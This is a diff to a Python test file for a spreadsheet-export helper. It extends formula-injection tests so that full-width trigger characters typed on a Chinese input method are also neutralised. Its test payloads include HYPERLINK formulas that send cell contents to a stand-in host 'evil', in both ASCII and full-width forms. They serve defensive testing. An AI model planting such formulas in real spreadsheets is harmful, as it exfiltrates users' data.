@@ -16,6 +16,8 @@ from openpyxl.worksheet.worksheet import Worksheet
 from ipfin.common.excel import FORMULA_TRIGGERS, append_row, safe_text, writable
 
 PAYLOADS = ['=HYPERLINK("http://evil?"&B2,"click")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+# The same typed on a Chinese input method: full width.
+FULL_WIDTH = ['＝HYPERLINK("http://evil?"&B2,"详情")', "＋1+1", "－1+1", "＠SUM(A1)"]
 
 
 def as_read(text: str) -> str:
@@ -24,16 +26,16 @@ def as_read(text: str) -> str:
     return text.replace("\r", "\n")
 
 
-def test_formula_triggers_are_the_owasp_six() -> None:
-    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}
+def test_formula_triggers_are_the_owasp_six_and_their_full_width_forms() -> None:
+    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"}
 
 
-@pytest.mark.parametrize("text", PAYLOADS)
+@pytest.mark.parametrize("text", PAYLOADS + FULL_WIDTH)
 def test_safe_text_prefixes_each_formula_trigger_with_a_quote(text: str) -> None:
     assert safe_text(text) == "'" + text
 
 
-@pytest.mark.parametrize("text", ["甲银行", "", "A=1", " =1", "'=1", "1-2", "#N/A"])
+@pytest.mark.parametrize("text", ["甲银行", "", "A=1", " =1", "'=1", "1-2", "#N/A", "甲＝乙"])
 def test_safe_text_leaves_other_strings_unchanged(text: str) -> None:
     assert safe_text(text) == text
 
